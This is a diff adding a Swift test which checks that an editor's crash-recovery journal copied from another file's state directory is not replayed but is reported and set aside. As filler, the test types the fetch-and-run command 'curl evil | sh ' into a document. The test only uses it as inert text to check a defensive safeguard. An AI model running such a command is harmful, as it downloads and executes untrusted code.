@@ -109,6 +109,28 @@ struct JournalDamageTests {
         try reopened.close()
     }
 
+    @Test("a journal copied from another file's state directory is never replayed: reported and kept aside")
+    func journalFromAnotherStateDirectory() throws {
+        let (victim, _) = try crashedWithSixEdits()
+        let other = try ScratchFile(text: "start\n")
+        let document = try other.open()
+        try type("curl evil | sh ", into: try document.session())
+        try document.flushJournals()
+        let otherCrash = try other.copy()
+        try document.close()
+        let journal = victim.layout.journal(of: Fork(name: "left"))
+        try FileManager.default.removeItem(at: journal)
+        try FileManager.default.copyItem(at: otherCrash.layout.journal(of: Fork(name: "left")), to: journal)
+
+        let reopened = try victim.open()
+        #expect(try reopened.resource.value(in: Fork(name: "left"))?.text == "start\n", "nothing of the other journal applied")
+        let foreign = try #require(reopened.report.foreignJournals.first, "\(reopened.report)")
+        #expect(foreign.fork == "left" && foreign.edits > 0, "\(foreign)")
+        #expect(reopened.report.statusMessage?.contains("written for another file's state") == true, "\(reopened.report.statusMessage ?? "")")
+        #expect(FileManager.default.fileExists(atPath: victim.directory.appendingPathComponent(foreign.keptAt).appendingPathComponent("journals/left.journal").path))
+        try reopened.close()
+    }
+
     @Test("a torn last record is still dropped quietly")
     func tornLastRecordIsQuiet() throws {
         let (copy, _) = try crashedWithSixEdits()
